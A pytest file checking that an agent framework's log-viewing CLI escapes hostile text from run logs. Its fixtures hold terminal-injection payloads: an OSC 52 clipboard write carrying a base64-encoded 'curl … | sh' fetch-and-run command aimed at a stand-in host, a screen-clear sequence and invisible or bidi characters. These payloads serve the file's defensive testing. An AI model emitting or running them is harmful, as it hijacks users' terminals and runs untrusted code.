"""Round six: ``zagent logs show`` / ``zagent logs search`` print what a run log recorded (model replies, tool
results, span names), all hostile text: a terminal escape (``ESC]52;c;...BEL`` writes the clipboard, ``ESC[2J``
clears the screen) or a bidi/invisible character in it reaches stdout only escaped (``SafeStream``, put
around stdout by ``zagent.plugins.cli.main``).

Investigated: not a hole. Two layers hold: the renderers escape what they print (``tree._printable``) and
``SafeStream`` escapes all stdout; the ``--json`` test fails without ``SafeStream`` (bidi characters go out raw),
the last test fails if the renderers stop escaping on their own.
"""

import sqlite3

import pytest

from zagent import Kernel

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
CLEAR = "\x1b[2J\x1b[H"
BIDI = "\u202e\u2066\u200b\U000e0041"  # right-to-left override, isolate, zero-width space, a tag character
HOSTILE = f"pwn{CLIPBOARD}{CLEAR}{BIDI}ed"
PLUGINS = ["zagent.plugins.offline", "zagent.plugins.parsers", "zagent.plugins.actions", "zagent.plugins.react",
           "zagent.plugins.runlog", "zagent.plugins.cli"]


@pytest.fixture
def log_path(tmp_path):
    """A run log of one ReAct run whose tool result, reply and span names carry ``HOSTILE``."""
    path = str(tmp_path / "logs.db")
    k = Kernel(PLUGINS, entry_points=False, strict=True, config={"log": path})

    def fetch(url: str) -> str:
        """Fetch a page."""
        return f"page says {HOSTILE}"

    k.add_tool(fetch)
    from zagent.plugins.react.loop import ReActLoop

    llm = k.llm("scripted:m", replies=[{"tool_calls": [{"name": "fetch", "arguments": {"url": "x"}}]},
                                       f"answer {HOSTILE}"])
    ReActLoop(kernel=k, llm=llm, tools=["fetch"], agent="helper").run(f"task {HOSTILE}")
    k.close()
    db = sqlite3.connect(path)  # the log file is data too: a name in it is anything
    db.execute("UPDATE run_spans SET name = ? WHERE kind = 'run'", (f"helper{HOSTILE}",))
    db.commit()
    db.close()
    return path


def logs(log_path, capsys, *args):
    """stdout of ``zagent logs ARGS --db log_path`` (exit code 0), as the bytes a terminal would get."""
    from zagent.plugins.cli import main

    k = Kernel(PLUGINS, entry_points=False, strict=True)
    try:
        assert main(["logs", *args, "--db", log_path], kernel=k) == 0
    finally:
        k.close()
    return capsys.readouterr().out


def assert_inert(out):
    assert "pwn" in out  # the hostile record was printed...
    assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out  # ...without one raw control
    assert not set(BIDI) & set(out)
    assert "\\x1b]52;c;" in out  # shown escaped, so a reader sees the attack


def test_logs_show_prints_a_hostile_run_log_escaped(log_path, capsys):
    """``zagent logs show latest``: the run's hostile name reaches stdout with no raw ESC, BEL or bidi character."""
    assert_inert(logs(log_path, capsys, "show", "latest"))


def test_logs_show_step_prints_hostile_replies_and_tool_results_escaped(log_path, capsys):
    """``zagent logs show latest --step 1`` (prompt, reply and tool result in full): no raw control reaches stdout."""
    out = logs(log_path, capsys, "show", "latest", "--step", "1")
    assert_inert(out)
    assert "page says" in out


def test_logs_search_prints_hostile_matches_escaped(log_path, capsys):
    """``zagent logs search pwn``: the matching rows reach stdout with no raw ESC, BEL or bidi character."""
    assert_inert(logs(log_path, capsys, "search", "pwn"))


def test_logs_show_json_escapes_controls(log_path, capsys):
    """``zagent logs show latest --json``: valid JSON with every control as a JSON escape, none raw."""
    import json

    out = logs(log_path, capsys, "show", "latest", "--json")
    assert "\x1b" not in out and "\x07" not in out and not set(BIDI) & set(out)
    assert f"helper{HOSTILE}" in [row["name"] for row in json.loads(out)]  # the data itself, unchanged


def test_the_show_and_search_renderers_escape_without_safestream(log_path, capsys, monkeypatch):
    """With ``SafeStream`` taken out of ``main``, ``logs show``/``show --step``/``search`` still print no raw
    control: the renderers escape on their own (the second layer)."""
    import zagent.plugins.cliterminal as cliterminal

    monkeypatch.setattr(cliterminal, "safe_terminal", lambda: (lambda: None))
    for args in (("show", "latest"), ("show", "latest", "--step", "1"), ("search", "pwn")):
        assert_inert(logs(log_path, capsys, *args))
